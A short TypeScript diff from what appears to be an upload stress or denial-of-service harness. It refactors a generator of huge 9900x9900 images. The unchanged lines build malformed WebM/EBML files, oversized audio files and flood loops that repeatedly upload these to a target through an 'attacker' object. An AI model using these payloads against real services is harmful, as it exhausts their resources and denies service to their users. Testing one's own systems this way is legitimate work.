@@ -1,4 +1,4 @@
-import sharp from 'sharp'
+import { hugePicture } from '../huge-picture.ts'
 import { flood } from '../way.ts'
 import type { Attacker, Way } from '../way.ts'
 
@@ -33,9 +33,6 @@ function manyChunks(bytes: number): Buffer {
 const manyVoids = (bytes: number) => Buffer.concat([
   Buffer.from('1a45dfa3874282847765626d18538067', 'hex'), Buffer.from('01ffffffffffffff', 'hex'), Buffer.alloc(bytes - bytes % 2, Buffer.from([0xec, 0x80]))])
 
-const hugePicture = (format: 'avif' | 'png') => sharp({ create: { width: 9900, height: 9900, channels: 3, background: '#123456' }, limitInputPixels: false })
-  .toFormat(format, format === 'png' ? { compressionLevel: 9 } : { effort: 0 }).toBuffer()
-
 export const sounds: Way = attacker => {
   const files = [manyTags(5_000_000), manyChunks(5_000_000)]
   return flood(attacker.over, 1, at => upload(attacker, files[at % 2] ?? Buffer.alloc(0), at % 2 ? 'voice.wav' : 'voice.mp3'))
@@ -47,7 +44,7 @@ export const films: Way = attacker => {
 }
 
 export const pictures: Way = async attacker => {
-  const picture = await hugePicture('png')
+  const picture = await hugePicture()
   await flood(attacker.over, 2, () => upload(attacker, picture, 'huge.png'))
 }
 
